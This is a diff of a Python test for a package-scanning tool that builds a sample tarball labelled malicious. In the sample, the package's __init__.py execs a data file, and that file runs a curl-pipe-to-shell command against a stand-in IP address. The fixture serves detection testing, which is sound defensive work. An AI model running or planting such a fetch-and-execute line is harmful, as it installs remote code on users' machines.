@@ -69,28 +69,19 @@ def test_a_reader_goes_on_while_another_run_holds_a_write(tmp_path: Path, monkey
 def test_training_records_read_what_a_scan_reads(tmp_path: Path) -> None:
     """A data file the package runs as code is read as code in a training record, as in a scan (the code
     views of Archive.analysed()): training and scanning see the same package."""
-    import io
-    import tarfile
-
+    from conftest import build_archive
     from vetpy.lab.dataset.corpus import Sample
     from vetpy.lab.dataset.extraction import extract_one
 
     files = {
-        "demo-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+        "demo-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
         "demo-1.0/demo/__init__.py": (
-            "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'd.bin')).read())\n"
+            b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'd.bin')).read())\n"
         ),
-        "demo-1.0/demo/d.bin": "import os\nos.system('curl -s http://203.0.113.7/i.sh | sh')\n",
+        "demo-1.0/demo/d.bin": b"import os\nos.system('curl -s http://203.0.113.7/i.sh | sh')\n",
     }
-    buf = io.BytesIO()
-    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
-        for name, text in files.items():
-            data = text.encode()
-            info = tarfile.TarInfo(name)
-            info.size = len(data)
-            tar.addfile(info, io.BytesIO(data))
     path = tmp_path / "demo-1.0.tar.gz"
-    path.write_bytes(buf.getvalue())
+    path.write_bytes(build_archive(files))
     record = extract_one(Sample(1, path, "0" * 64, "demo", "1.0", "2026-01-01", "malicious"))
     assert record.error is None
     assert "call:os.system" in record.code_text.split()
